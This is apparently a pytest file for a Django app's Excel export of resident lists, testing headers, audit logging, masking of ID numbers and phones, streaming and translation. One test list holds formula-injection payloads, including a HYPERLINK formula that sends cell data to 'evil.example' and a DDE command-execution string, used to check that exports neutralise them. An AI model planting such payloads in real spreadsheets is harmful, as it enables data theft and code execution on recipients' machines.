"""Excel export: any list to .xlsx, and every export of people audited with masked identifiers."""

import datetime as dt
import io

from django.core.signals import request_finished
from django.db import close_old_connections
from django.utils import timezone
from openpyxl import load_workbook

from wangge.audit.models import AuditAction, AuditEntry
from wangge.core.exports import content_disposition, xlsx_response
from wangge.exports.audited import audited_export
from wangge.people.exports import RESIDENT_EXPORT_HEADERS, resident_export_rows
from wangge.people.models import Resident, ResidentTag


def sheet_of(response):
    return load_workbook(io.BytesIO(b"".join(response.streaming_content))).worksheets[0]


def test_rows_are_written_under_their_headers():
    response = xlsx_response(filename="名单.xlsx", headers=["名称", "数量", "日期"],
                             rows=iter([("甲", 1, dt.date(2022, 4, 1)), ("乙", 2, None)]))
    sheet = sheet_of(response)
    values = [[c.value for c in row] for row in sheet.iter_rows()]
    assert values[0] == ["名称", "数量", "日期"]
    assert values[1][:2] == ["甲", 1] and values[1][2].date() == dt.date(2022, 4, 1)
    assert values[2] == ["乙", 2, None]


def test_aware_datetimes_are_written_in_local_time():
    moment = dt.datetime(2022, 4, 1, 0, 30, tzinfo=dt.UTC)
    sheet = sheet_of(xlsx_response(filename="t.xlsx", headers=["时间"], rows=[(moment,)]))
    assert sheet.cell(row=2, column=1).value == timezone.localtime(moment).replace(tzinfo=None)


def test_a_chinese_file_name_survives_in_the_download_header():
    header = content_disposition("居民名单.xlsx")
    assert header.startswith('attachment; filename="')
    assert "filename*=UTF-8''%E5%B1%85%E6%B0%91" in header


def test_an_audited_export_records_the_filters_and_row_count(city, street_officer, actor):
    response = audited_export(actor=actor(street_officer), object_type="people.resident", grid_code="420106001",
                              filters={"q": "张", "tag": ""}, filename="居民.xlsx", headers=["姓名"],
                              rows=((n,) for n in ["张伟", "张敏", "张强"]))
    b"".join(response.streaming_content)
    entry = AuditEntry.objects.get(action=AuditAction.EXPORT)
    assert entry.actor_username == "street_1"
    assert entry.object_type == "people.resident"
    assert entry.grid_code == "420106001"
    assert entry.changes == {"filters": {"q": "张"}, "rows": 3, "file": "居民.xlsx"}


def test_resident_exports_keep_id_numbers_and_phones_masked(city, street_officer, actor):
    resident = city["residents"]["A"]
    ResidentTag.objects.create(resident=resident, tag_id=1, grid_code=resident.grid_code)
    qs = Resident.objects.restrict(street_officer).order_by("grid_code", "id")
    response = audited_export(actor=actor(street_officer), object_type="people.resident", grid_code="420106001",
                              filters={}, filename="居民.xlsx", headers=RESIDENT_EXPORT_HEADERS,
                              rows=resident_export_rows(qs))
    sheet = sheet_of(response)
    rows = [[c.value for c in row] for row in sheet.iter_rows(min_row=2)]
    assert len(rows) == 3  # the street officer's reach: residents A, A2 and B, not C
    first = dict(zip(RESIDENT_EXPORT_HEADERS, rows[0], strict=True))
    assert first["证件号码"] == resident.id_number_masked != resident.id_number
    assert first["手机号"] == "138****8000"
    assert first["重点人群"] == "独居老人"
    assert resident.id_number not in str(rows)
    assert AuditEntry.objects.get(action=AuditAction.EXPORT).changes["rows"] == 3


FORMULA_LIKE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点此")', "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1",
    "=cmd|' /C calc'!A0",
]


def raw_sheet_xml(response) -> str:
    import zipfile

    with zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content))) as archive:
        return archive.read("xl/worksheets/sheet1.xml").decode()


def test_text_that_looks_like_a_formula_is_written_as_text():
    response = xlsx_response(filename="x.xlsx", headers=["姓名"], rows=iter([(v,) for v in FORMULA_LIKE]))
    sheet = sheet_of(response)
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    # XML readers normalise a carriage return to a line feed; the text is otherwise unchanged.
    assert [c.value for c in cells] == [v.replace("\r", "\n") for v in FORMULA_LIKE]
    assert all(c.data_type == "s" for c in cells)
    # Marked as text for Excel too, so editing the cell later does not turn it into a formula.
    assert all(c.quotePrefix for c in cells)


def test_no_export_carries_a_formula_element():
    response = xlsx_response(filename="x.xlsx", headers=["=标题"], rows=iter([(v, v) for v in FORMULA_LIKE]))
    xml = raw_sheet_xml(response)
    assert "<f>" not in xml and "<f " not in xml


def test_audited_exports_are_neutralised_too(city, street_officer, actor):
    response = audited_export(actor=actor(street_officer), object_type="people.resident", grid_code="420106001",
                              filters={}, filename="x.xlsx", headers=["备注"], rows=iter([("=1+2",)]))
    cell = next(sheet_of(response).iter_rows(min_row=2))[0]
    assert cell.value == "=1+2" and cell.data_type == "s"


def test_ordinary_text_and_numbers_are_untouched():
    response = xlsx_response(filename="x.xlsx", headers=["a", "b", "c"], rows=iter([("张伟", -3, "1-2号楼")]))
    cells = next(sheet_of(response).iter_rows(min_row=2))
    assert [c.value for c in cells] == ["张伟", -3, "1-2号楼"]
    assert not cells[0].quotePrefix and cells[1].data_type == "n"


def test_characters_xml_cannot_hold_do_not_break_the_export():
    # A control character typed or imported into a note used to raise IllegalCharacterError (a 500).
    response = xlsx_response(filename="x.xlsx", headers=["备注"], rows=iter([("甲\x01乙\x1f丙",)]))
    cell = next(sheet_of(response).iter_rows(min_row=2))[0]
    assert cell.value == "甲\ufffd乙\ufffd丙"


def test_the_download_starts_before_the_last_row_is_read(city, street_officer, actor):
    read = []

    def rows():
        for i in range(20_000):
            read.append(i)
            yield (f"居民{i}", i, dt.date(2022, 4, 1))

    response = audited_export(actor=actor(street_officer), object_type="people.resident", grid_code="420106001",
                              filters={}, filename="x.xlsx", headers=["姓名", "序号", "日期"], rows=rows())
    chunks = iter(response.streaming_content)
    first = next(chunks)
    assert first.startswith(b"PK") and 0 < len(read) < 20_000
    assert not AuditEntry.objects.filter(action=AuditAction.EXPORT).exists()
    rest = b"".join(chunks)
    assert AuditEntry.objects.get(action=AuditAction.EXPORT).changes["rows"] == 20_000
    sheet = load_workbook(io.BytesIO(first + rest)).worksheets[0]
    assert sheet.max_row == 20_001 and sheet.cell(row=20_001, column=1).value == "居民19999"


def test_an_abandoned_download_is_recorded_as_incomplete(city, street_officer, actor):
    response = audited_export(actor=actor(street_officer), object_type="people.resident", grid_code="420106001",
                              filters={}, filename="x.xlsx", headers=["姓名"],
                              rows=((f"居民{i}",) for i in range(50_000)))
    chunks = iter(response.streaming_content)
    next(chunks)
    # What the server does when the client goes away; the signal that would also close the test's
    # database connection is held back, as Django's test client does.
    request_finished.disconnect(close_old_connections)
    try:
        response.close()
    finally:
        request_finished.connect(close_old_connections)
    entry = AuditEntry.objects.get(action=AuditAction.EXPORT)
    assert entry.changes["complete"] is False and 0 < entry.changes["rows"] < 50_000


def test_the_file_reads_back_in_the_importers_reader_too(tmp_path):
    import python_calamine

    response = xlsx_response(filename="x.xlsx", headers=["姓名", "数量", "在管"], sheet_title="名单[1]/2",
                             rows=iter([("<张伟> & 李娜", 3.5, True), ("  前后空格  ", None, False)]))
    path = tmp_path / "x.xlsx"
    path.write_bytes(b"".join(response.streaming_content))
    workbook = python_calamine.CalamineWorkbook.from_path(str(path))
    assert workbook.sheet_names == ["名单 1  2"]
    rows = workbook.get_sheet_by_index(0).to_python()
    assert rows[1] == ["<张伟> & 李娜", 3.5, True] and rows[2][0] == "  前后空格  "


def test_an_english_request_gets_english_headers_and_sheet_title(city, street_officer, actor):
    from django.utils import translation

    qs = Resident.objects.restrict(street_officer).order_by("grid_code", "id")
    with translation.override("en"):
        response = audited_export(actor=actor(street_officer), object_type="people.resident",
                                  grid_code="420106001", filters={}, filename="residents.xlsx",
                                  headers=RESIDENT_EXPORT_HEADERS, rows=resident_export_rows(qs))
    # Streamed after the language is back to Chinese: the headers were resolved with the response.
    sheet = sheet_of(response)
    headers = [c.value for c in next(sheet.iter_rows())]
    assert headers[:2] == ["Resident number", "Name"] and "证件号码" not in headers
    assert sheet.title == "Data"
    chinese = sheet_of(audited_export(actor=actor(street_officer), object_type="people.resident",
                                      grid_code="420106001", filters={}, filename="居民.xlsx",
                                      headers=RESIDENT_EXPORT_HEADERS, rows=resident_export_rows(qs)))
    assert [c.value for c in next(chinese.iter_rows())][:2] == ["居民编号", "姓名"]
    assert chinese.title == "数据"


def test_export_headers_are_not_bare_chinese():
    """Export header lists are gettext_lazy calls, so an English user gets English headers."""
    import ast
    import pathlib
    import re

    root = pathlib.Path(__file__).resolve().parents[2]
    cjk = re.compile(r"[\u4e00-\u9fff]")
    bare = []
    paths = sorted(root.glob("*/selectors.py")) + sorted(root.glob("*/exports.py"))
    assert len(paths) > 5
    for path in paths:
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if not (isinstance(node, ast.Assign)
                    and any(getattr(t, "id", "").endswith("HEADERS") for t in node.targets)):
                continue
            translated = {id(a) for call in ast.walk(node.value) if isinstance(call, ast.Call)
                          and getattr(call.func, "id", "") in ("gettext_lazy", "_") for a in call.args}
            bare += [(path.name, n.value) for n in ast.walk(node.value)
                     if isinstance(n, ast.Constant) and cjk.search(str(n.value)) and id(n) not in translated]
            bare += [(path.name, "f-string") for n in ast.walk(node.value) if isinstance(n, ast.JoinedStr)]
    assert not bare
